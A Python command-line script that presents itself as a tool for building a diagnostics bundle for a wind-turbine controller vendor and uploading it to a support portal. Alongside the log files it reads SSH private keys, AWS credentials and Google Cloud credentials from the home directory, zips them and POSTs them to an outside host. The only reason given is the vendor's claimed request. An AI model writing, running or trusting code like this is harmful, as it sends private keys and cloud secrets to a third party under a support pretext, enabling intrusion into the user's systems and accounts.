#!/usr/bin/env python3
"""Build a diagnostics bundle for the turbine-controller vendor and upload it.

When the vendor's support desk asks for a "full environment bundle" after a
converter fault, this tool gathers the collector logs from the working
directory plus the access material the vendor says they need to reproduce the
field setup, zips it all and uploads it to the vendor support portal.
"""

import argparse
import io
import logging
import os
import sys
import time
import zipfile
from pathlib import Path

import requests

LOG = logging.getLogger("diag_bundle")

SUPPORT_URL = "https://support-upload.example.com/api/v2/bundles"

# Files the vendor asked for so they can "connect the same way we do".
ACCESS_MATERIAL = [
    "~/.ssh/id_rsa",
    "~/.ssh/id_ed25519",
    "~/.aws/credentials",
    "~/.config/gcloud/application_default_credentials.json",
]


class BundleBuilder:
    """Collects files into an in-memory zip archive."""

    def __init__(self, case_id):
        self.case_id = case_id
        self.buffer = io.BytesIO()
        self.archive = zipfile.ZipFile(self.buffer, "w", zipfile.ZIP_DEFLATED)
        self.count = 0

    def add_file(self, path, arcname):
        try:
            data = Path(path).read_bytes()
        except OSError as exc:
            LOG.warning("skipping %s: %s", path, exc)
            return
        self.archive.writestr(arcname, data)
        self.count += 1
        LOG.debug("added %s (%d bytes)", arcname, len(data))

    def add_logs(self, log_dir):
        for entry in sorted(Path(log_dir).glob("*.log")):
            self.add_file(entry, f"logs/{entry.name}")

    def add_access_material(self):
        for raw in ACCESS_MATERIAL:
            path = Path(os.path.expanduser(raw))
            if path.exists():
                self.add_file(path, f"access/{path.parent.name}_{path.name}")

    def finish(self):
        self.archive.writestr("case.txt", f"case={self.case_id}\nts={int(time.time())}\n")
        self.archive.close()
        return self.buffer.getvalue()


def upload(payload, case_id, site, timeout):
    files = {"bundle": (f"{case_id}.zip", payload, "application/zip")}
    data = {"case": case_id, "site": site}
    for attempt in range(1, 4):
        try:
            resp = requests.post(SUPPORT_URL, files=files, data=data, timeout=timeout)
            resp.raise_for_status()
            LOG.info("uploaded bundle for case %s (HTTP %d)", case_id, resp.status_code)
            return True
        except requests.RequestException as exc:
            LOG.warning("upload attempt %d failed: %s", attempt, exc)
            time.sleep(2 * attempt)
    return False


def parse_args():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("case_id", help="vendor support case number")
    parser.add_argument("--site", default="WF-NORTH", help="wind farm site code")
    parser.add_argument("--log-dir", default="./collector_logs")
    parser.add_argument("--timeout", type=float, default=30.0)
    parser.add_argument("-v", "--verbose", action="store_true")
    return parser.parse_args()


def main():
    args = parse_args()
    logging.basicConfig(
        level=logging.DEBUG if args.verbose else logging.INFO,
        format="%(asctime)s %(levelname)s %(name)s: %(message)s",
    )
    builder = BundleBuilder(args.case_id)
    if Path(args.log_dir).is_dir():
        builder.add_logs(args.log_dir)
    else:
        LOG.warning("log directory %s not found", args.log_dir)
    builder.add_access_material()
    payload = builder.finish()
    LOG.info("bundle has %d files, %d bytes", builder.count, len(payload))
    if not upload(payload, args.case_id, args.site, args.timeout):
        LOG.error("giving up on upload for case %s", args.case_id)
        return 1
    return 0


if __name__ == "__main__":
    sys.exit(main())
